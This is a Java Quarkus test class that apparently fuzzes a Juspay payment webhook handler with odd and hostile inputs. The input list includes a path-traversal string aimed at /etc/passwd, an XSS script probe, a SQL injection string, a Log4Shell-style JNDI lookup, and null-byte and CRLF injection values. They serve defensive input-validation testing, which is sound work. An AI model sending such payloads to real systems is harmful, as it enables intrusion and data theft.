package dev.batua.hostile;

import dev.batua.environment.FunctionEnvironment;
import dev.batua.environment.JvmEnvironment;
import dev.batua.provider.Stubbed;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import java.nio.charset.StandardCharsets;
import java.util.Collection;
import java.util.List;
import java.util.Map;

/** A few of them in every run. */
@QuarkusTest
@QuarkusTestResource(
    value = Stubbed.class,
    restrictToAnnotatedClass = true,
    initArgs = @ResourceArg(name = "quarkus.lambda.handler", value = "juspay-webhook"))
class PretendersTest extends Pretenders {
  @Override
  FunctionEnvironment start(Map<String, String> settings) {
    return new JvmEnvironment(settings, bus);
  }

  @Override
  String runsIn() {
    return "JVM";
  }

  @Override
  List<String> texts() {
    return List.of(
        "",
        " ",
        "undefined",
        "null",
        "1",
        "NaN",
        "true",
        "../../etc/passwd",
        "right_1/../x",
        "right_1\u0000",
        "<script>alert(1)</script>",
        "' OR 1=1 --",
        "${jndi:ldap://a.b/c}",
        "%00%0d%0a",
        "\u202eright_1",
        "\ud83d\ude00\u0935\u094d",
        "\"}{\"",
        "Basic ",
        "Basic Og==",
        "0".repeat(64) + "###2",
        "###",
        "x".repeat(5000));
  }

  @Override
  Collection<byte[]> jsonTexts() {
    return OddBodies.texts("{\"event_name\":\"ORDER_SUCCEEDED\",\"code\":1}").values().stream()
        .map(text -> text.getBytes(StandardCharsets.UTF_8))
        .toList();
  }
}
